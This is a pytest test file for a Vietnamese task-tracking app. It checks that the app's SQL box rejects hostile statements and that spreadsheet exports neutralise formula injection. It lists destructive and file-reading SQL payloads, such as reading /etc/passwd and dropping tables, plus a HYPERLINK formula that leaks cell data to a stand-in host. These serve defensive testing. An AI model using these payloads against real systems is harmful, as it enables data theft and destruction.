import io

import openpyxl
import pytest

from chibo import auth, queries, tasks
from chibo.errors import InputError
from tests.conftest import TODAY

A = auth.SYSTEM

HOSTILE = [
    ("DELETE FROM nhiem_vu", "không được xóa"),
    ("UPDATE nhiem_vu SET tien_do = 100", "không được sửa"),
    ("INSERT INTO nhiem_vu VALUES (1)", "không được thêm"),
    ("DROP TABLE nhiem_vu", "chỉ nhận một câu lệnh SELECT"),
    ("CREATE TABLE x (a INT)", "chỉ nhận một câu lệnh SELECT"),
    ("COPY nhiem_vu TO '/tmp/leak.csv'", "tệp"),
    ("SELECT * FROM read_csv('/etc/passwd')", "tệp"),
    ("SELECT * FROM read_text('/etc/hostname')", "tệp"),
    ("SELECT * FROM glob('/*')", "tệp"),
    ("ATTACH '/tmp/other.duckdb' AS o", "gắn thêm"),
    ("INSTALL httpfs", "tiện ích"),
    ("LOAD httpfs", "tiện ích"),
    ("SET threads = 1", "cài đặt"),
    ("PRAGMA threads = 1", "cài đặt|SELECT"),
    ("SELECT 1; DELETE FROM nhiem_vu", "một câu lệnh"),
    ("SELECT * FROM tasks", "Không có bảng"),
    ("SELECT * FROM users", "Không có bảng"),
    ("SELECT password_hash FROM main.users", "Không có bảng"),
    ("EXPORT DATABASE '/tmp/x'", "xuất dữ liệu"),
]


@pytest.mark.parametrize("sql,message", HOSTILE)
def test_the_sql_box_refuses_hostile_statements_in_one_sentence(demo_db, sql, message):
    before = demo_db.scalar("SELECT count(*) FROM tasks")
    with pytest.raises(InputError, match=message) as error:
        queries.run_sql(demo_db, A, sql, today=TODAY)
    assert "\n" not in str(error.value)
    assert demo_db.scalar("SELECT count(*) FROM tasks") == before


def test_a_long_query_is_stopped_at_the_time_limit(demo_db):
    slow = "SELECT count(*) FROM range(100000000) a, range(100000) b WHERE a.range + b.range = -1"
    with pytest.raises(InputError, match="quá 1 giây"):
        queries.run_sql(demo_db, A, slow, timeout=1, today=TODAY)


def test_syntax_errors_and_unknown_columns_get_plain_messages(demo_db):
    with pytest.raises(InputError, match="sai cú pháp"):
        queries.run_sql(demo_db, A, "SELEC * FROM nhiem_vu", today=TODAY)
    with pytest.raises(InputError, match="Tên cột không đúng"):
        queries.run_sql(demo_db, A, "SELECT khong_co FROM nhiem_vu", today=TODAY)


def test_a_huge_result_is_truncated_with_its_total(demo_db):
    result = queries.run_sql(demo_db, A, "SELECT * FROM range(5000)", today=TODAY)
    assert result.total == 5000 and len(result.frame) == queries.MAX_ROWS and result.truncated


def test_the_views_answer_with_the_same_numbers_as_the_domain(demo_db):
    result = queries.run_sql(demo_db, A, "SELECT count(*) AS n FROM nhiem_vu", today=TODAY)
    assert result.frame.iloc[0]["n"] == demo_db.scalar("SELECT count(*) FROM tasks")


@pytest.mark.parametrize("name", list(queries.QUESTIONS))
def test_every_ready_question_runs(demo_db, name):
    params = {p: ("2" if kind == "int" else TODAY.isoformat()) for p, kind in queries.QUESTIONS[name].params.items()}
    result = queries.ask(demo_db, A, name, params, today=TODAY)
    assert result.total == len(result.frame)


def test_overdue_question_matches_a_direct_count(demo_db):
    result = queries.ask(demo_db, A, "viec_qua_han", {"ngay": TODAY.isoformat()}, today=TODAY)
    direct = demo_db.scalar("SELECT count(*) FROM tasks WHERE status IN ('not_started','in_progress')"
                            " AND deadline < ?", [TODAY])
    assert result.total == direct


def test_a_question_with_a_bad_parameter_is_refused(demo_db):
    with pytest.raises(InputError, match="Số buổi vắng tối thiểu"):
        queries.ask(demo_db, A, "vang_nhieu_buoi", {"so_buoi": "nhiều"}, today=TODAY)
    with pytest.raises(InputError, match="Không có câu hỏi"):
        queries.ask(demo_db, A, "khong_co", today=TODAY)


def test_a_saved_question_reruns(demo_db):
    queries.save_query(demo_db, A, "Việc quá hạn theo người", "SELECT nguoi_chu_tri, count(*) FROM nhiem_vu GROUP BY 1")
    saved = queries.saved_queries(demo_db).iloc[0]
    assert queries.run_sql(demo_db, A, saved["sql"], today=TODAY).total > 0
    with pytest.raises(InputError, match="Đã có câu hỏi"):
        queries.save_query(demo_db, A, "việc quá hạn theo người", "SELECT 1")
    with pytest.raises(InputError, match="không được xóa"):
        queries.save_query(demo_db, A, "Xóa", "DELETE FROM nhiem_vu")


def test_a_chart_is_offered_only_for_label_and_number_results():
    import pandas as pd
    assert queries.chart_spec(pd.DataFrame({"Tên": ["a"], "Số": [1]})) == ("Tên", "Số")
    assert queries.chart_spec(pd.DataFrame({"Số": [1], "Khác": [2]})) is None
    assert queries.chart_spec(pd.DataFrame()) is None


def test_the_filter_builder_narrows_tasks_targets_and_meetings(demo_db):
    every = queries.filter_tasks(demo_db, TODAY)
    overdue = queries.filter_tasks(demo_db, TODAY, status="overdue")
    assert every.total == demo_db.scalar("SELECT count(*) FROM tasks") and 0 < overdue.total < every.total
    assert set(overdue.frame["Trạng thái"]) == {"Quá hạn"}
    assert queries.filter_tasks(demo_db, TODAY, words="chuyên đề").total >= 1
    slipping = queries.filter_targets(demo_db, TODAY, below=100)
    assert (slipping.frame["Đạt (%)"].dropna() < 100).all() and slipping.total < queries.filter_targets(demo_db, TODAY).total
    meetings_all = queries.filter_meetings(demo_db)
    assert meetings_all.total == 6
    assert queries.filter_meetings(demo_db, below_rate=0).total == 0


# -- exports a spreadsheet opens -------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://x.example/leak?"&A1,"Bấm vào đây")'


def _with_formula_note(db):
    task_id = db.scalar("SELECT t.id FROM tasks t JOIN documents d ON d.id = t.document_id"
                        " WHERE d.month = DATE '2026-11-01' AND t.status IN ('in_progress', 'not_started') LIMIT 1")
    tasks.record_progress(db, A, task_id, 40, FORMULA, today=TODAY)
    return queries.run_sql(db, A, "SELECT ma_nhiem_vu, tien_do, ghi_chu AS \"@ghi chú\" FROM cap_nhat"
                                  " WHERE ghi_chu LIKE '=%'", today=TODAY)


def test_a_formula_typed_as_a_progress_note_is_plain_text_in_the_excel_download(demo_db):
    sheet = openpyxl.load_workbook(io.BytesIO(_with_formula_note(demo_db).excel())).active
    header, row = list(sheet.iter_rows(max_row=2))
    assert header[2].value == "'@ghi chú"
    assert row[2].value == "'" + FORMULA and row[2].data_type == "s"
    assert isinstance(row[1].value, int)  # numbers stay numbers


def test_a_formula_typed_as_a_progress_note_is_plain_text_in_the_csv_download(demo_db):
    header, row = _with_formula_note(demo_db).csv().decode("utf-8-sig").splitlines()
    assert header.endswith(",'@ghi chú")
    assert row.endswith(',"\'' + FORMULA.replace('"', '""') + '"')
